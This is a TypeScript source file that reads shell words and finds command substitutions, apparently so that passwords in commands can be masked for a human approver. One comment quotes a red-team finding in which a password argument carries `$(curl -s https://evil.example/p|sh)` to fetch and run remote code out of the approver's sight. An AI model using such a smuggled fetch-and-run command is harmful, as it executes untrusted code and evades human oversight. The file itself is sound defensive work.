// One word of a command line read as the shell reads it (red team l1): a backslash escapes
// the character after it (`Xk9\;abc\&Zq7`, `My\ Secret\ Pass99` are one word each), quoted
// pieces touching each other or unquoted text are one word (`"Sec"'ret99PwQz'`), a double
// quote ends only where it is not escaped (`"abc\"defgh"`), and a single-quoted piece is
// literal (`'$ecretPassw0rd'` names no variable). Before, a word ended at the first `\;`,
// `\ ` or inner quote, and the approver saw most of the password after it.

import { codeAt } from "./chars.ts";

/** A shell word read by {@linkcode readShellWord}. */
export interface ShellWord {
  /** Where the word ends (exclusive); the word's start when none starts there. */
  end: number;
  /**
   * The word is one quoted piece (`"…"` or `'…'`): its content is `[start + 1, end - 1)`.
   * `0` when it is not; else the quote's code (34 or 39).
   */
  quotedWhole: number;
  /**
   * A quote opened in the word did not close before the line's end or the reach: the word
   * ends before it (`end`), and the command's words with it.
   */
  open: boolean;
  /** Where reading stopped: past `end` when an open quote was read to its line's end. */
  read: number;
}

/**
 * A character that ends an unquoted word: white space, a control character and the shell's
 * operators (`;`, `|`, `&`, `<`, `>`, a backtick, `(`, `)`).
 */
export function endsShellWord(c: number): boolean {
  return c <= 32 || c === 127 || c === 59 || c === 124 || c === 38 || c === 60 || c === 62 ||
    c === 96 || c === 40 || c === 41;
}

/**
 * Reads the shell word starting at `start`, at most to `limit` (exclusive, UTF-16 index):
 * unquoted characters to white space or an operator not escaped by `\`; `'…'` literal to the
 * next `'`; `"…"` to the next `"` not escaped by `\`. A backslash before a line break joins
 * the lines (the shell removes both) where the word goes on after it, in or out of double
 * quotes; before white space on the next line it ends the word (a continued command). A quote not closed on its line leaves the word `open`, ending
 * before that quote (text decoded from JSON reads `"abc"def" ping` for `"abc\"def" ping`).
 * Each character is read once: linear.
 *
 * @param text The text holding the command.
 * @param start Where the word starts (not white space).
 * @param limit Index not to read at or past (a caller's reach).
 */
export function readShellWord(text: string, start: number, limit: number): ShellWord {
  let j = start;
  let pieces = 0;
  let quotedPieces = 0;
  let lastQuote = 0;
  while (j < limit) {
    const c = text.charCodeAt(j);
    if (c === 39 || c === 34) {
      pieces++;
      quotedPieces++;
      lastQuote = c;
      let k = j + 1;
      while (k < limit) {
        const d = text.charCodeAt(k);
        if (d === c || d === 10 || d === 13) break;
        // Inside double quotes `\` escapes the next character, and `\` before a line break
        // joins the lines (red team m1); inside single quotes nothing.
        if (d === 92 && c === 34 && k + 1 < limit) {
          const n = continuationAt(text, k, limit);
          if (n > 0) {
            k += n;
            continue;
          }
          k++;
        }
        k++;
      }
      if (k >= limit || text.charCodeAt(k) !== c) {
        return { end: j, quotedWhole: 0, open: true, read: k };
      }
      j = k + 1;
      continue;
    }
    if (c === 92) {
      // `\` before a line break inside a word joins the lines into one word
      // (`Xk9mQ2pL\⏎7vRtYw3z`; red team m1: the tail of a password showed). At the word's
      // start it only continues the command (the caller's to skip).
      const joined = j > start ? continuationAt(text, j, limit) : 0;
      if (joined > 0 && !endsShellWord(codeAt(text, j + joined))) {
        j += joined;
        continue;
      }
      const n = codeAt(text, j + 1);
      if (n === -1 || n === 10 || n === 13 || j + 1 >= limit) break;
      pieces++;
      j += 2;
      continue;
    }
    if (endsShellWord(c)) break;
    pieces++;
    while (j < limit) {
      const d = text.charCodeAt(j);
      if (d === 39 || d === 34 || d === 92 || endsShellWord(d)) break;
      j++;
    }
  }
  const quotedWhole = pieces === 1 && quotedPieces === 1 ? lastQuote : 0;
  return { end: j, quotedWhole, open: false, read: j };
}

/**
 * How many characters a line continuation at `j` takes: 2 for `\` and `\n`, 3 for `\` and
 * `\r\n`, 0 when there is none (or it runs past `limit`).
 */
export function continuationAt(text: string, j: number, limit: number): number {
  if (codeAt(text, j) !== 92) return 0;
  const n = codeAt(text, j + 1);
  if (n === 10 && j + 2 <= limit) return 2;
  if (n === 13 && codeAt(text, j + 2) === 10 && j + 3 <= limit) return 3;
  return 0;
}

/**
 * The pieces of the word text `[from, to)` outside what the shell expands by running code:
 * a command substitution (`$(…)`, a backtick's) and a parameter expansion (`${…}`), where
 * they are not single-quoted. Inside double quotes the shell runs them too (red team m1:
 * `sshpass -p "x$(curl -s https://evil.example/p|sh)"` hid the command from an approver as
 * part of the password): they split the password, and what they hold is no password's.
 * `inside`: the quote the range stands in (34 or 39; 0: a word's own text, whose quotes are
 * followed). A substitution not closed before `to` runs to it. Pieces holding only quote
 * characters are left out. Each character is read once: linear.
 *
 * @returns `[start, end)` pairs, in order; `[[from, to]]` when nothing is expanded.
 */
export function unexpandedPieces(
  text: string,
  from: number,
  to: number,
  inside: number,
): Array<[number, number]> {
  const pieces: Array<[number, number]> = [];
  const push = (s: number, e: number) => {
    for (let i = s; i < e; i++) {
      const c = text.charCodeAt(i);
      if (c !== 34 && c !== 39) {
        pieces.push([s, e]);
        return;
      }
    }
  };
  if (inside === 39) return [[from, to]];
  let quote = inside;
  let s = from;
  let j = from;
  while (j < to) {
    const c = text.charCodeAt(j);
    if (quote !== 39 && c === 92) {
      j += 2;
      continue;
    }
    if (inside === 0 && (c === 34 || c === 39) && (quote === 0 || quote === c)) {
      quote = quote === 0 ? c : 0;
      j++;
      continue;
    }
    const n = codeAt(text, j + 1);
    if (quote !== 39 && (c === 96 || (c === 36 && (n === 40 || n === 123)))) {
      push(s, j);
      // To the matching close: `$(` nests with `(`, `${` with `{`; a backtick's to the next.
      const open = c === 96 ? -1 : n;
      const close = c === 96 ? 96 : n === 40 ? 41 : 125;
      let depth = 0;
      let k = c === 96 ? j + 1 : j + 2;
      while (k < to) {
        const d = text.charCodeAt(k);
        if (d === 92) k++;
        else if (d === open) depth++;
        else if (d === close) {
          if (depth === 0) break;
          depth--;
        }
        k++;
      }
      j = s = Math.min(k + 1, to);
      continue;
    }
    j++;
  }
  push(s, Math.min(j, to));
  return pieces;
}
